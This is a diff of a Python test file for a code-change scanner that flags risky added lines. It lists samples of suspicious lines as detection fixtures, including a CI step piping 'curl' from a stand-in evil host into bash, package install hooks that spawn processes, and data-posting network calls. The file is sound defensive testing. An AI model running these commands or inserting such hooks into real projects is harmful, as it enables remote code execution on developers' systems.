@@ -8,12 +8,13 @@ import hashlib
 import pytest
 
 from threegate.core.file_diff import Mark
-from threegate.plugins.changes.change_facts import text_change
+from threegate.plugins.changes.change_facts import file_change
 from threegate.plugins.changes.marks import (
     CODE,
     DECODES,
     ENCODED,
     HOST,
+    INSTALL,
     NETWORK,
     PROCESS,
     SHELL,
@@ -55,7 +56,9 @@ PLANTED = [
     ("Makefile", "X := $(shell get)", {SHELL}),
     ("Makefile", "\t@wget -q $(WHERE)", {NETWORK}),
     (".github/workflows/a.yml", "      - run: curl -s https://one.evil.dev | bash", {SHELL, NETWORK, HOST}),
-    ("package.json", '"postinstall": "node -e \\"require(\'child_process\')\\""', {PROCESS}),
+    ("package.json", '"postinstall": "node -e \\"require(\'child_process\')\\""', {PROCESS, INSTALL}),
+    ("package.json", '    "prepare": "node ./tools/prepare.js",', {INSTALL}),
+    ("composer.json", '"post-install-cmd": ["php tools/warm.php"],', {INSTALL}),
     ("a.py", "eval(text)", {CODE}),
     ("a.py", "exec (text)", {CODE}),
     ("a.js", "new Function(text)()", {CODE}),
@@ -76,6 +79,7 @@ PLANTED = [
     ("a.py", "import socket", {NETWORK}),
     ("a.py", "requests.post(place, data=data)", {NETWORK}),
     ("a.py", "from urllib.request import urlopen", {NETWORK}),
+    ("a.js", "  void fetch(place)", {NETWORK}),
     ("a.js", "await fetch(place, { method })", {NETWORK}),
     ("a.js", 'const http = require("node:https")', {NETWORK}),
     ("a.go", '\t"net/http"', {NETWORK}),
@@ -102,6 +106,8 @@ PLANTED = [
 ]
 
 ORDINARY = [
+    ("package.json", '"install-peer": "^1.0.0",'),
+    ("a.py", "def install(self): prepare(self)"),
     ("a.py", "def eval(self, node):"),
     ("a.py", "model.eval()"),
     ("a.py", "pattern = re.compile(text)"),
@@ -129,6 +135,7 @@ ORDINARY = [
     ("a.js", "function fetch(place) {"),
     ("a.css", ".push { color: #abcdef; background: url(data/x.png) }"),
     ("a.rs", "fn spawn(&self) {}"),
+    ("a.c", "void execl(const char *path);"),
     ("tests/test_a.py", "assert value == 3"),
     ("a.py", "getattr(sys.stdin, name)"),
     ("a.py", "emit('\\x1b[31m')"),
@@ -136,7 +143,7 @@ ORDINARY = [
 
 
 def found(path: str, line: str, old: str = "see https://old.known.dev/\n") -> list[Mark]:
-    text = text_change(old.encode(), f"{old}{line}\n".encode())
+    text = file_change(old.encode(), f"{old}{line}\n".encode())
     assert text is not None
     return list(marks_of(path, text, runs=path.startswith(("Makefile", ".github", "package.json"))))
 
@@ -156,20 +163,20 @@ def test_what_a_line_had_before_is_not_marked_and_what_is_new_in_it_is() -> None
     """Only added lines have marks; a host that the old text names anywhere is not new."""
     old = "import os\nos.system(one)\nsee https://old.known.dev/\n"
     assert found("a.py", "x = 1", old) == []
-    text = text_change(old.encode(), old.replace("one", "two").encode())
+    text = file_change(old.encode(), old.replace("one", "two").encode())
     assert text is not None and list(marks_of("a.py", text)) == [Mark(2, PROCESS)]
 
 
 def test_a_test_that_changes_and_a_check_that_is_gone() -> None:
     old = b"def test_a():\n    assert one\n    assert two\n    x = 1\n"
-    changed = text_change(old, old.replace(b"one", b"other"))
+    changed = file_change(old, old.replace(b"one", b"other"))
     assert changed is not None
     assert list(marks_of("tests/test_a.py", changed)) == [Mark(0, TEST)], "one check replaces the other"
     assert list(marks_of("a.py", changed)) == []
-    weaker = text_change(old, old.replace(b"    assert two\n", b"    pass\n"))
+    weaker = file_change(old, old.replace(b"    assert two\n", b"    pass\n"))
     assert weaker is not None
     assert list(marks_of("tests/test_a.py", weaker)) == [Mark(0, TEST), Mark(3, UNCHECKED, removed=True)]
-    added = text_change(b"", old)
+    added = file_change(b"", old)
     assert added is not None and list(marks_of("tests/test_a.py", added)) == []
 
 
@@ -194,6 +201,6 @@ def test_of_a_long_line_what_is_shown_is_marked() -> None:
 
 
 def marks_in(path: str, old: str, new: str) -> list[Mark]:
-    text = text_change(old.encode(), new.encode())
+    text = file_change(old.encode(), new.encode())
     assert text is not None
     return list(marks_of(path, text))
